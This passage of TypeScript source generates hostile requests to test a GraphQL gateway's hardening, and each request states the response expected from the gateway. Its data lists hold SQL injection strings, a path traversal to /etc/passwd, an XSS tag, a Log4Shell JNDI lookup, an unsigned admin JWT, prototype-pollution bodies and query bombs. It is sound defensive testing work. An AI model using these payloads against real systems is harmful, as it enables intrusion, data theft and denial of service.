/**
 * Hostile requests for the gateway's front door, generated deterministically from a seed and from the
 * supergraph (so every new field and argument is attacked too). Each request says what a hardened gateway
 * should answer (`expect`); `run.ts` sends them and judges the answers.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import {
  buildASTSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isInterfaceType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  isUnionType,
  parse,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLNamedType,
  type GraphQLObjectType,
  type GraphQLOutputType,
  type GraphQLSchema,
} from 'graphql';

export const categories = [
  'malformed',
  'batches',
  'get-mutations',
  'apq',
  'unknown-fields',
  'variables',
  'first',
  'cursors',
  'unicode',
  'injection',
  'giant',
  'depth',
  'fragments',
  'directives',
  'aliases',
  'cost',
] as const;
export type Category = (typeof categories)[number];
export type Role = 'public' | 'partner' | 'analyst' | 'staff' | 'admin';

/** The refusal codes of the document limits; which one fires first on a document breaking several is the gateway's choice. */
export const limitCodes = [
  'PAYLOAD_TOO_LARGE',
  'MAX_TOKENS_LIMIT',
  'MAX_DEPTH_LIMIT',
  'MAX_FIELDS_LIMIT',
  'MAX_ALIASES_LIMIT',
  'MAX_DIRECTIVES_LIMIT',
  'COST_LIMIT_EXCEEDED',
];

/**
 * What a hardened gateway answers:
 * - refused: a 4xx (in `statuses` if given) whose errors carry one of `codes` (if given), within `withinMs`;
 * - error: an answer (200 or 4xx) with an error carrying one of `codes`;
 * - accepted: a 200 with data;
 * - any: only the checks every answer gets (no 5xx, no leak, no INTERNAL_SERVER_ERROR).
 * `notStatuses` rules out statuses whatever the kind (a body under the limit must not get 413).
 */
export interface Expectation {
  kind: 'refused' | 'error' | 'accepted' | 'any';
  codes?: string[];
  statuses?: number[];
  withinMs?: number;
  notStatuses?: number[];
}

export interface HostileRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  /** Query string of a GET, with its leading `?`. */
  search?: string;
  category: Category;
  label: string;
  caller: Role;
  expect: Expectation;
  /** Strings the request plants, which the answer may legitimately echo: removed before looking for leaks. */
  echoes?: string[];
}

export interface GenerateOptions {
  seed?: number;
  /** Largest request body the gateway accepts, in bytes. */
  bodyLimit?: number;
  /** Bearer tokens by role; a role without one is sent as the public. */
  tokens?: Partial<Record<Role, string>>;
  supergraphSdl?: string;
  /**
   * Spread the requests over this many client addresses (X-Forwarded-For, for a gateway with TRUST_PROXY):
   * many hostile callers at once, so per-address rate limits do not hide how each request is handled.
   */
  addresses?: number;
}

/** The body limit intended for the front door: 256 KiB unless configured otherwise. */
export const defaultBodyLimit = 256 * 1024;
const supergraphPath = new URL('../../schema/supergraph.graphql', import.meta.url);
const graphqlPath = '/graphql';
const json = 'application/json';
/** A community every dataset scale has (the first of Xin'an sub-district). */
const knownCommunityCode = '440306001001';
const fast = 1_000;

/** mulberry32: small, fast, good enough to pick hostile variants reproducibly. */
function prng(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (n: number) => Math.floor(next() * n),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!,
    bytes: (n: number) => Buffer.from(Array.from({ length: n }, () => Math.floor(next() * 256))),
  };
}
type Rng = ReturnType<typeof prng>;

// ---------------------------------------------------------------------------------------------------
// The public schema, as the gateway serves it (supergraph minus @inaccessible)

interface SchemaFacts {
  schema: GraphQLSchema;
  query: GraphQLObjectType;
  mutation: GraphQLObjectType | undefined;
}

const hasDirective = (node: { astNode?: { directives?: readonly { name: { value: string } }[] } | null | undefined }, name: string) =>
  node.astNode?.directives?.some((directive) => directive.name.value === name) ?? false;
const accessible = (node: Parameters<typeof hasDirective>[0]) => !hasDirective(node, 'inaccessible');
const needsSignIn = (field: GraphQLField<unknown, unknown>) =>
  hasDirective(field, 'authenticated') || hasDirective(field, 'requiresScopes') || hasDirective(field, 'policy');

function schemaFacts(sdl: string): SchemaFacts {
  const schema = buildASTSchema(parse(sdl), { assumeValidSDL: true });
  return { schema, query: schema.getQueryType()!, mutation: schema.getMutationType() ?? undefined };
}

const fieldsOf = (type: GraphQLObjectType) =>
  Object.values(type.getFields()).filter((field) => accessible(field) && !field.name.startsWith('_'));
const argsOf = (field: GraphQLField<unknown, unknown>) => field.args.filter((arg) => accessible(arg));

/** Arguments a string goes into: String, ID and the string scalars (Date, DateTime). */
function takesString(type: GraphQLInputType): boolean {
  const named = getNamedType(type);
  return isScalarType(named) && !['Int', 'Float', 'Boolean', 'Fen'].includes(named.name);
}

/** A valid literal for `type`: what a required argument gets while another one is attacked. */
function dummyLiteral(type: GraphQLInputType, depth = 0): string {
  if (isNonNullType(type)) return dummyLiteral(type.ofType, depth);
  if (isListType(type)) return `[${dummyLiteral(type.ofType, depth)}]`;
  if (isEnumType(type)) return type.getValues().filter(accessible)[0]!.name;
  if (isInputObjectType(type)) {
    if (depth > 3) return '{}';
    const required = Object.values(type.getFields()).filter(
      (field) => isNonNullType(field.type) && field.defaultValue === undefined && accessible(field),
    );
    return `{ ${required.map((field) => `${field.name}: ${dummyLiteral(field.type, depth + 1)}`).join(', ')} }`;
  }
  switch (type.name) {
    case 'Int':
    case 'Fen':
      return '1';
    case 'Float':
      return '1.5';
    case 'Boolean':
      return 'true';
    case 'Date':
      return '"2019-06-30"';
    case 'DateTime':
      return '"2019-06-30T00:00:00Z"';
    case 'ID':
      return '"1"';
    default:
      return '"x"';
  }
}

/** Literal arguments: required ones with dummies, `override` winning, `first: 1` where a page is taken. */
function argumentList(field: GraphQLField<unknown, unknown>, override: Record<string, string> = {}): string {
  const parts: string[] = [];
  for (const arg of argsOf(field)) {
    if (arg.name in override) parts.push(`${arg.name}: ${override[arg.name]}`);
    else if (isNonNullType(arg.type) && arg.defaultValue === undefined) parts.push(`${arg.name}: ${dummyLiteral(arg.type)}`);
    else if (arg.name === 'first') parts.push('first: 1');
  }
  // `community(id, code)` wants exactly one of the two: a community every scale has.
  if (field.name === 'community' && argsOf(field).some((arg) => arg.name === 'code') && !('id' in override) && !('code' in override))
    parts.push(`code: "${knownCommunityCode}"`);
  return parts.length > 0 ? `(${parts.join(', ')})` : '';
}

/** The node type of a connection (`edges { node }`), if `type` is one. */
function nodeTypeOf(type: GraphQLOutputType): GraphQLOutputType | undefined {
  const named = getNamedType(type);
  const edges = isObjectType(named) ? named.getFields().edges : undefined;
  const edge = edges && getNamedType(edges.type);
  return edge && isObjectType(edge) ? edge.getFields().node?.type : undefined;
}

/** A selection that makes the field's resolver run and fetch rows: ids, counts, one level of edges. */
function selectionFor(type: GraphQLOutputType, nested = false): string {
  const named = getNamedType(type);
  if (isUnionType(named)) return '{ __typename }';
  if (!isObjectType(named) && !isInterfaceType(named)) return '';
  const fields = named.getFields();
  const parts = ['__typename'];
  if (fields.id) parts.push('id');
  if (fields.totalCount) parts.push('totalCount');
  const node = nodeTypeOf(type);
  if (node && !nested) parts.push(`edges { cursor node ${selectionFor(node, true) || '{ __typename }'} }`);
  return `{ ${parts.join(' ')} }`;
}

/** Places to attack a field from: the root, and one level down through objects every caller can reach. */
interface Host {
  type: GraphQLObjectType;
  open: string;
  close: string;
}
function hostsOf(facts: SchemaFacts): Host[] {
  const hosts: Host[] = [{ type: facts.query, open: '', close: '' }];
  const nested: [string, string][] = [
    ['district', 'district'],
    ['community', `community(code: "${knownCommunityCode}")`],
    ['subdistricts', 'subdistricts'],
  ];
  for (const [name, open] of nested) {
    const field = facts.query.getFields()[name];
    const type = field && getNamedType(field.type);
    if (type && isObjectType(type)) hosts.push({ type, open: `${open} { `, close: ' }' });
  }
  return hosts;
}

interface Target {
  host: Host;
  field: GraphQLField<unknown, unknown>;
  arg: GraphQLArgument;
}
/** Every (field, argument) pair reachable from a host whose argument satisfies `want`. */
function targets(facts: SchemaFacts, want: (arg: GraphQLArgument) => boolean): Target[] {
  const found: Target[] = [];
  for (const host of hostsOf(facts)) {
    for (const field of fieldsOf(host.type)) for (const arg of argsOf(field)) if (want(arg)) found.push({ host, field, arg });
  }
  return found;
}

/** A signed-in role for fields the public may not read, else mostly the public. */
function callerFor(rng: Rng, field?: GraphQLField<unknown, unknown>): Role {
  // Policy fields are admin-only: anyone else is refused before the arguments are looked at.
  if (field && hasDirective(field, 'policy')) return 'admin';
  if (field && needsSignIn(field)) return rng.pick(['staff', 'admin'] as const);
  const roll = rng.next();
  if (roll < 0.7) return 'public';
  return rng.pick(['partner', 'analyst', 'staff', 'admin'] as const);
}

/** The operation attacking `target` with `value`, either as a literal or through a variable. */
function attack(target: Target, value: string, asVariable: boolean): { query: string; variables?: Record<string, unknown> } {
  const { host, field, arg } = target;
  const selection = selectionFor(field.type);
  if (asVariable) {
    const args = argumentList(field, { [arg.name]: '$v' });
    return {
      query: `query Hostile($v: ${String(arg.type)}) { ${host.open}${field.name}${args} ${selection}${host.close} }`,
      variables: { v: value },
    };
  }
  const args = argumentList(field, { [arg.name]: JSON.stringify(value) });
  return { query: `{ ${host.open}${field.name}${args} ${selection}${host.close} }` };
}

// ---------------------------------------------------------------------------------------------------

const injectionStrings = [
  "' or 1=1--",
  "'); drop table people.persons;--",
  '%',
  '_',
  '\\',
  '%%%%%%%%%%%%%%%%%%%%',
  '%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_a',
  "' UNION SELECT null, current_user --",
  '1; select pg_sleep(10) --',
  "'||(select version())||'",
  '$1',
  "'::uuid",
  "\\'; --",
  '"',
  "E'\\x00'",
  `${knownCommunityCode}' --`,
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
  "' and (select count(*) from pg_catalog.pg_tables) > 0 --",
  "'; select pg_sleep(5); --",
  "1' and '1'='1",
  "admin'--",
  '\\x27',
  "%' and 1=1 and '%'='",
  "'::text || chr(0) || '",
  '" or ""="',
  '1 OR 1=1',
  '*',
  '(select 1)',
];

const unicodeStrings = [
  '\u0000',
  'a\u0000b',
  `${knownCommunityCode}\u0000`,
  '\ud800',
  '\udfff',
  'x\ud83dy',
  '\u202e\u0644\u0627',
  '\u200f\u200e\u200d\u200c',
  '\ufeff',
  '👨‍👩‍👧‍👦',
  '𝕏𝔶𝔷',
  'e\u0301'.repeat(500),
  '\u2028\u2029',
  '４４０３０６００１００１',
  '新安街道',
  '\uffff\ufffe',
  '\u001b[31mred',
  '\r\n\t\v\f',
];

const dateStrings = [
  '0000-01-01',
  '2019-13-45',
  '9999-12-31',
  '-001-01-01',
  '2019-02-29',
  '+275760-09-13',
  '1e9',
  '',
  ' 2019-01-01',
  '2019-01-01T00:00:00Z',
  '２０１９-０１-０１',
  '2019-01-01\u0000',
  '2019-1-1',
  '99999-01-01',
];

// ---------------------------------------------------------------------------------------------------

class Builder {
  readonly requests: HostileRequest[] = [];
  constructor(
    readonly rng: Rng,
    private readonly tokens: Partial<Record<Role, string>>,
    private readonly addresses: number,
  ) {}

  private auth(caller: Role): { caller: Role; headers: Record<string, string> } {
    const token = caller === 'public' ? undefined : this.tokens[caller];
    if (!token) return { caller: 'public', headers: {} };
    return { caller, headers: { authorization: `Bearer ${token}` } };
  }

  raw(request: Omit<HostileRequest, 'caller' | 'headers' | 'path'> & { caller?: Role; headers?: Record<string, string>; path?: string }) {
    const { caller, headers } = this.auth(request.caller ?? 'public');
    if (this.addresses > 0) {
      const n = this.requests.length % this.addresses;
      headers['x-forwarded-for'] = `198.51.${100 + Math.floor(n / 250)}.${1 + (n % 250)}`;
    }
    this.requests.push({ ...request, path: request.path ?? graphqlPath, caller, headers: { ...headers, ...request.headers } });
  }

  post(category: Category, label: string, payload: unknown, expect: Expectation, options: { caller?: Role; echoes?: string[] } = {}) {
    this.raw({
      method: 'POST',
      headers: { 'content-type': json },
      body: JSON.stringify(payload),
      category,
      label,
      expect,
      caller: options.caller ?? callerFor(this.rng),
      ...(options.echoes && { echoes: options.echoes }),
    });
  }

  get(
    category: Category,
    label: string,
    params: Record<string, string>,
    expect: Expectation,
    options: { caller?: Role; headers?: Record<string, string> } = {},
  ) {
    this.raw({
      method: 'GET',
      search: `?${new URLSearchParams(params)}`,
      category,
      label,
      expect,
      caller: options.caller ?? callerFor(this.rng),
      ...(options.headers && { headers: options.headers }),
    });
  }
}

const refused = (codes?: string[], extra: Partial<Expectation> = {}): Expectation => ({
  kind: 'refused',
  ...(codes && { codes }),
  withinMs: fast,
  ...extra,
});
const anyAnswer: Expectation = { kind: 'any' };
const userError = (codes = ['BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED']): Expectation => ({ kind: 'error', codes });

// ---------------------------------------------------------------------------------------------------
// Categories

function malformed(b: Builder) {
  const category = 'malformed';
  const valid = [
    '{"query":"{ district { name } }"}',
    '{"query":"{ __typename }","variables":{}}',
    '{"query":"query Q($c: String) { community(code: $c) { name } }","variables":{"c":"440306001001"}}',
    '{"query":"{ communities(first: 2) { totalCount } }","operationName":null}',
    '{"query":"{ subdistricts { name } }","extensions":{}}',
    '{"query":"query Q($first: Int, $after: String) { communities(first: $first, after: $after) { edges { cursor } } }","variables":{"first":2}}',
    '{"query":"{ serviceRequests(first: 3) { edges { node { id status } } } }","operationName":null,"variables":null}',
  ];
  // Every proper prefix of a valid body is invalid JSON.
  for (const body of valid) {
    for (let cut = 0; cut < body.length; cut++) {
      b.raw({
        method: 'POST',
        headers: { 'content-type': json },
        body: body.slice(0, cut),
        category,
        label: `truncated JSON (${cut}/${body.length} bytes)`,
        expect: refused(['BAD_REQUEST'], { statuses: [400] }),
        caller: callerFor(b.rng),
      });
    }
  }
  const body = valid[0]!;
  // Media types are case-insensitive and may carry parameters.
  for (const type of [
    'APPLICATION/JSON',
    'Application/Json',
    'application/json; charset=utf-8',
    'application/json;charset=UTF-8',
    'APPLICATION/JSON; CHARSET=UTF-8',
    'application/json ; charset="utf-8"',
  ]) {
    for (let i = 0; i < 5; i++)
      b.raw({
        method: 'POST',
        headers: { 'content-type': type },
        body,
        category,
        label: `content-type ${type}`,
        expect: { kind: 'accepted' },
        caller: callerFor(b.rng),
      });
  }
  const unsupported = [
    'text/plain',
    'text/plain; charset=utf-8',
    'application/x-www-form-urlencoded',
    'text/html',
    'application/xml',
    'application/octet-stream',
    'image/png',
    'application/notjson',
    'text/x-json-not',
    '',
  ];
  for (const type of unsupported) {
    for (let i = 0; i < 8; i++) {
      b.raw({
        method: 'POST',
        headers: type ? { 'content-type': type } : {},
        body,
        category,
        label: `content-type ${type || '(none)'}`,
        expect: refused(['BAD_REQUEST']),
        caller: callerFor(b.rng),
      });
    }
  }
  const boundary = '----hostile';
  const multipart = [
    `--${boundary}\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{"query":"mutation($f: Upload) { upload(file: $f) }","variables":{"f":null}}\r\n`,
    `--${boundary}\r\nContent-Disposition: form-data; name="map"\r\n\r\n{"0":["variables.f"]}\r\n`,
    `--${boundary}\r\nContent-Disposition: form-data; name="0"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n${'A'.repeat(2000)}\r\n--${boundary}--\r\n`,
  ].join('');
  for (let i = 0; i < 20; i++) {
    b.raw({
      method: 'POST',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, 'apollo-require-preflight': 'true' },
      body: multipart,
      category,
      label: 'multipart upload',
      expect: refused(['BAD_REQUEST']),
      caller: callerFor(b.rng),
    });
  }
  for (let i = 0; i < 20; i++) {
    b.raw({
      method: 'POST',
      headers: { 'content-type': json },
      category,
      label: 'POST without a body',
      expect: refused(['BAD_REQUEST']),
      caller: callerFor(b.rng),
    });
    b.raw({
      method: 'POST',
      headers: { 'content-type': json },
      body: '   \n\t ',
      category,
      label: 'whitespace body',
      expect: refused(['BAD_REQUEST']),
      caller: callerFor(b.rng),
    });
  }
  const scalars = [
    '1',
    '-0',
    '1e400',
    '"{ district { name } }"',
    'null',
    'true',
    '{}',
    '[]',
    '{"query":null}',
    '{"query":1}',
    '{"query":{}}',
    '{"query":["{ district { name } }"]}',
    '{"query":"{ district { name } }","variables":"x"}',
    '{"query":"{ district { name } }","variables":[1]}',
    '{"query":"{ district { name } }","operationName":1}',
    '{"query":"{ district { name } }","extensions":"x"}',
    '{"query":"{ district { name } }","extensions":{"persistedQuery":"x"}}',
  ];
  for (const text of scalars) {
    for (let i = 0; i < 6; i++)
      b.raw({
        method: 'POST',
        headers: { 'content-type': json },
        body: text,
        category,
        label: `JSON ${text.slice(0, 60)}`,
        expect: refused(['BAD_REQUEST']),
        caller: callerFor(b.rng),
      });
  }
  const odd = [
    '{"query":"{ __typename }","query":"{ district { name } }"}',
    '{"__proto__":{"query":"{ district { name } }"},"query":"{ __typename }"}',
    '{"query":"{ __typename }","variables":{"__proto__":{"polluted":true}}}',
    '{"constructor":{"prototype":{"polluted":true}},"query":"{ __typename }"}',
    '\ufeff{"query":"{ __typename }"}',
    '{"query":"{ __typename }"}garbage',
    '{"query":"{ __typename }"}{"query":"{ __typename }"}',
    `{"query":"{ __typename }","variables":${'['.repeat(50_000)}${']'.repeat(50_000)}}`,
    `{"query":"{ __typename }","variables":{${Array.from({ length: 8_000 }, (_, i) => `"v${i}":${i}`).join(',')}}}`,
    '{"query":"\\ud800"}',
    '{"query":"{ __typename \\u0000 }"}',
  ];
  for (const text of odd) {
    for (let i = 0; i < 4; i++)
      b.raw({
        method: 'POST',
        headers: { 'content-type': json },
        body: text,
        category,
        label: `odd JSON ${text.slice(0, 60)}`,
        expect: anyAnswer,
        caller: callerFor(b.rng),
      });
  }
  // Invalid UTF-8 bytes inside a JSON string.
  const invalidUtf8 = Buffer.concat([
    Buffer.from('{"query":"{ communities(search: \\"'),
    Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xff]),
    Buffer.from('\\") { totalCount } }"}'),
  ]);
  for (let i = 0; i < 10; i++)
    b.raw({
      method: 'POST',
      headers: { 'content-type': json },
      body: invalidUtf8,
      category,
      label: 'invalid UTF-8 bytes',
      expect: anyAnswer,
      caller: callerFor(b.rng),
    });
  for (const method of ['PUT', 'DELETE', 'PATCH']) {
    for (let i = 0; i < 8; i++)
      b.raw({
        method,
        headers: { 'content-type': json },
        body,
        category,
        label: `${method} /graphql`,
        expect: refused(undefined, { statuses: [400, 404, 405] }),
        caller: callerFor(b.rng),
      });
  }
  for (const header of [
    'Bearer',
    'Bearer ',
    'Bearer not.a.token',
    'Basic YWRtaW46YWRtaW4=',
    'Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW4ifQ.',
    `Bearer ${'A'.repeat(4_000)}`,
    `Bearer ${'x.'.repeat(2)}${'A'.repeat(100)}`,
  ]) {
    for (let i = 0; i < 5; i++) {
      b.raw({
        method: 'POST',
        headers: { 'content-type': json, authorization: header },
        body,
        category,
        label: `authorization ${header.slice(0, 40)}`,
        expect: refused(['UNAUTHENTICATED'], { statuses: [400, 401] }),
      });
    }
  }
}

function batches(b: Builder) {
  const category = 'batches';
  const op = { query: '{ district { name } }' };
  for (const n of [1, 2, 3, 10, 50, 100, 500, 1000, 5000]) {
    for (let i = 0; i < 10; i++)
      b.post(
        category,
        `JSON array of ${n} operations`,
        Array.from({ length: n }, () => op),
        refused(['BAD_REQUEST']),
      );
  }
  for (let i = 0; i < 10; i++) {
    b.post(
      category,
      'JSON array of 9,000 __typename operations',
      Array.from({ length: 9_000 }, () => ({ query: '{__typename}' })),
      refused(['BAD_REQUEST', 'PAYLOAD_TOO_LARGE']),
    );
    b.post(
      category,
      'JSON array of fragment bombs',
      Array.from({ length: 20 }, () => ({ query: fragmentBomb(8, 10, '__typename') })),
      refused(['BAD_REQUEST', 'PAYLOAD_TOO_LARGE', ...limitCodes]),
    );
    b.post(category, 'JSON array of mixed values', [op, 1, null, 'x', [op]], refused(['BAD_REQUEST']));
    b.post(category, 'empty JSON array', [], refused(['BAD_REQUEST']));
  }
  // Many operations in one document: one is run, every one is parsed and validated.
  for (const n of [2, 10, 100, 500, 2000]) {
    const document = Array.from({ length: n }, (_, i) => `query Q${i} { district { name } }`).join(' ');
    for (let i = 0; i < 6; i++) {
      b.post(
        category,
        `${n} operations in one document, without an operation name`,
        { query: document },
        refused(n > 200 ? ['BAD_REQUEST', 'OPERATION_RESOLUTION_FAILURE', ...limitCodes] : undefined),
      );
      b.post(category, `${n} operations in one document, the last one named`, { query: document, operationName: `Q${n - 1}` }, anyAnswer);
    }
  }
}

function getMutations(b: Builder, facts: SchemaFacts) {
  const category = 'get-mutations';
  const mutationFields = facts.mutation ? fieldsOf(facts.mutation) : [];
  for (const field of mutationFields) {
    const document = `mutation { ${field.name}${argumentList(field)} { __typename } }`;
    // Past CSRF prevention (a preflighted header), a GET mutation is a 405.
    b.get(category, `GET mutation ${field.name} (preflighted)`, { query: document }, refused(undefined, { statuses: [405] }), {
      headers: { 'apollo-require-preflight': 'true' },
    });
    b.get(category, `GET mutation ${field.name}`, { query: document }, refused(undefined, { statuses: [400, 405] }));
    b.get(
      category,
      `GET mutation ${field.name} named`,
      { query: `mutation M { ${field.name}${argumentList(field)} { __typename } }`, operationName: 'M' },
      refused(undefined, { statuses: [400, 405] }),
      { caller: 'admin', headers: { 'apollo-require-preflight': 'true' } },
    );
    b.get(
      category,
      `GET query and mutation, mutation selected: ${field.name}`,
      { query: `query Q { __typename } mutation M { ${field.name}${argumentList(field)} { __typename } }`, operationName: 'M' },
      refused(undefined, { statuses: [400, 405] }),
      { caller: 'admin', headers: { 'apollo-require-preflight': 'true', 'x-http-method-override': 'POST' } },
    );
  }
  for (let i = 0; i < 20; i++) {
    b.get(category, 'GET subscription', { query: 'subscription { __typename }' }, refused(undefined), {
      headers: { 'apollo-require-preflight': 'true' },
    });
    b.get(
      category,
      'GET with variables that are not JSON',
      { query: 'query($c: String) { community(code: $c) { id } }', variables: '{"c":' },
      refused(['BAD_REQUEST']),
      { headers: { 'apollo-require-preflight': 'true' } },
    );
    b.get(category, 'GET with extensions that are not JSON', { query: '{ __typename }', extensions: '{{' }, refused(['BAD_REQUEST']), {
      headers: { 'apollo-require-preflight': 'true' },
    });
    b.get(category, 'GET query', { query: '{ district { name } }' }, anyAnswer, { headers: { 'apollo-require-preflight': 'true' } });
  }
}

function apq(b: Builder) {
  const category = 'apq';
  const queries = [
    '{ district { name } }',
    '{ __typename }',
    '{ subdistricts { name } }',
    `{ community(code: "${knownCommunityCode}") { name } }`,
  ];
  const sha = (text: string) => createHash('sha256').update(text).digest('hex');
  for (let i = 0; i < 120; i++) {
    const query = b.rng.pick(queries);
    const wrong = [
      b.rng.bytes(32).toString('hex'),
      sha(b.rng.pick(queries.filter((q) => q !== query))),
      sha(query).toUpperCase(),
      sha(query).slice(0, 63),
      `${sha(query)}0`,
      'x'.repeat(64),
      '',
    ][i % 7]!;
    b.post(
      category,
      'persisted query with a wrong sha256',
      { query, extensions: { persistedQuery: { version: 1, sha256Hash: wrong } } },
      refused(['BAD_REQUEST', 'PERSISTED_QUERY_HASH_MISMATCH'], { statuses: [400] }),
    );
  }
  for (let i = 0; i < 40; i++) {
    b.post(
      category,
      'persisted query hash only, unknown',
      { extensions: { persistedQuery: { version: 1, sha256Hash: b.rng.bytes(32).toString('hex') } } },
      userError(['PERSISTED_QUERY_NOT_FOUND', 'PERSISTED_QUERY_NOT_SUPPORTED', 'BAD_REQUEST']),
    );
    b.post(
      category,
      'persisted query, version 2',
      { query: '{ __typename }', extensions: { persistedQuery: { version: 2, sha256Hash: sha('{ __typename }') } } },
      refused(['BAD_REQUEST', 'PERSISTED_QUERY_NOT_SUPPORTED']),
    );
    b.post(
      category,
      'persisted query, 10 KB hash',
      { query: '{ __typename }', extensions: { persistedQuery: { version: 1, sha256Hash: 'a'.repeat(10_000) } } },
      refused(['BAD_REQUEST', 'PERSISTED_QUERY_HASH_MISMATCH']),
    );
  }
  // A correctly hashed bomb must meet the same limits as a plain one.
  for (const [label, query] of [
    ['fragment bomb', fragmentBomb(8, 10, '__typename')],
    ['alias bomb', aliasBomb(1_000, 'serviceRequests(first: 500) { totalCount edges { node { id description } } }')],
    ['deep query', depthQuery('organisations', 40)],
  ] as const) {
    for (let i = 0; i < 10; i++) {
      b.post(
        category,
        `persisted ${label} with its true sha256`,
        { query, extensions: { persistedQuery: { version: 1, sha256Hash: sha(query) } } },
        refused(limitCodes),
      );
      b.post(
        category,
        `persisted ${label} by hash only`,
        { extensions: { persistedQuery: { version: 1, sha256Hash: sha(query) } } },
        userError(['PERSISTED_QUERY_NOT_FOUND', ...limitCodes]),
      );
    }
  }
  for (let i = 0; i < 20; i++) {
    const query = b.rng.pick(queries);
    b.get(
      category,
      'GET persisted query with a wrong sha256',
      { query, extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: b.rng.bytes(32).toString('hex') } }) },
      refused(['BAD_REQUEST', 'PERSISTED_QUERY_HASH_MISMATCH']),
      { headers: { 'apollo-require-preflight': 'true' } },
    );
  }
}

/** Misspellings of a name: a letter dropped, two swapped, one doubled. */
function typos(name: string, rng: Rng, taken: readonly string[] = []): string[] {
  const out = new Set<string>();
  if (name.length > 3) out.add(name.slice(0, -1));
  const i = 1 + rng.int(Math.max(1, name.length - 2));
  out.add(name.slice(0, i) + name[i + 1] + name[i] + name.slice(i + 2));
  out.add(name.slice(0, i) + name[i] + name.slice(i));
  return [...out].filter((typo) => typo !== name && !taken.includes(typo) && /^[_A-Za-z]\w*$/.test(typo));
}

/** For each object type, a way down from the root to it (required arguments filled in, one item per page). */
function pathsToTypes(facts: SchemaFacts): Map<string, { open: string; close: string; needsSignIn: boolean }> {
  const paths = new Map<string, { open: string; close: string; needsSignIn: boolean }>([
    [facts.query.name, { open: '', close: '', needsSignIn: false }],
  ]);
  let frontier: GraphQLObjectType[] = [facts.query];
  for (let level = 0; level < 6 && frontier.length > 0; level++) {
    const next: GraphQLObjectType[] = [];
    for (const type of frontier) {
      const from = paths.get(type.name)!;
      for (const field of fieldsOf(type)) {
        let target: GraphQLNamedType = getNamedType(field.type);
        let open = `${field.name}${argumentList(field)} { `;
        let close = ' }';
        const node = nodeTypeOf(field.type);
        if (node) {
          target = getNamedType(node);
          open += 'edges { node { ';
          close += ' } }';
        }
        if (!isObjectType(target) || paths.has(target.name)) continue;
        paths.set(target.name, { open: from.open + open, close: close + from.close, needsSignIn: from.needsSignIn || needsSignIn(field) });
        next.push(target);
      }
    }
    frontier = next;
  }
  return paths;
}

function unknownFields(b: Builder, facts: SchemaFacts) {
  const category = 'unknown-fields';
  const validation = refused(['GRAPHQL_VALIDATION_FAILED'], { statuses: [400] });
  for (let i = 0; i < 30; i++) {
    b.post(category, 'person { idNumbe }', { query: '{ person(id: "x") { idNumbe } }' }, validation, {
      caller: b.rng.pick(['public', 'admin', 'staff'] as const),
    });
    b.post(category, 'introspection __schema', { query: '{ __schema { types { name fields { name } } } }' }, validation);
    b.post(category, 'introspection __type', { query: '{ __type(name: "Person") { fields { name } } }' }, validation);
    b.post(category, 'federation _service', { query: '{ _service { sdl } }' }, validation);
    b.post(
      category,
      'federation _entities',
      { query: '{ _entities(representations: [{ __typename: "Person", id: "1" }]) { ... on Person { name } } }' },
      validation,
      { caller: 'admin' },
    );
    b.post(category, 'inaccessible sliceAuditLog', { query: '{ sliceAuditLog(entityId: "1") { totalCount } }' }, validation, {
      caller: 'admin',
    });
  }
  const paths = pathsToTypes(facts);
  const candidates: { label: string; query: string; caller: Role }[] = [];
  for (const [typeName, path] of paths) {
    const type = facts.schema.getType(typeName) as GraphQLObjectType;
    for (const field of fieldsOf(type)) {
      for (const typo of typos(field.name, b.rng, Object.keys(type.getFields()))) {
        const selection = selectionFor(field.type);
        candidates.push({
          label: `${typeName}.${typo}`,
          query: `{ ${path.open}${typo} ${selection}${path.close} }`,
          caller: path.needsSignIn || needsSignIn(field) ? 'admin' : 'public',
        });
      }
      for (const arg of argsOf(field)) {
        const typo = typos(
          arg.name,
          b.rng,
          field.args.map((a) => a.name),
        )[0];
        if (typo)
          candidates.push({
            label: `${typeName}.${field.name}(${typo})`,
            query: `{ ${path.open}${field.name}(${typo}: 1) ${selectionFor(field.type)}${path.close} }`,
            caller: 'public',
          });
      }
    }
  }
  for (let i = 0; i < 2_200 && candidates.length > 0; i++) {
    const candidate = candidates.splice(b.rng.int(candidates.length), 1)[0]!;
    b.post(category, `unknown ${candidate.label}`, { query: candidate.query }, validation, {
      caller: candidate.caller === 'public' ? callerFor(b.rng) : candidate.caller,
    });
  }
  for (const enumType of Object.values(facts.schema.getTypeMap())
    .filter(isEnumType)
    .filter((type) => !type.name.startsWith('__') && !type.name.includes('__'))) {
    const value = enumType.getValues()[0]!.name;
    const arg = targets(facts, (a) => getNamedType(a.type) === enumType)[0];
    if (!arg) continue;
    const query = `{ ${arg.host.open}${arg.field.name}${argumentList(arg.field, { [arg.arg.name]: value.slice(0, -1) })} ${selectionFor(arg.field.type)}${arg.host.close} }`;
    b.post(category, `unknown enum value of ${enumType.name}`, { query }, validation, { caller: callerFor(b.rng, arg.field) });
  }
  for (let i = 0; i < 10; i++) {
    b.post(category, 'unknown type condition', { query: '{ district { ... on Distric { name } } }' }, validation);
    b.post(category, 'unknown directive', { query: '{ district @skp(if: true) { name } }' }, validation);
    b.post(category, 'unknown fragment', { query: '{ district { ...Missing } }' }, validation);
  }
}

/** Wrong JSON values for a variable of `type`: each one the type cannot take. */
function wrongValues(type: GraphQLInputType): unknown[] {
  const named = getNamedType(type);
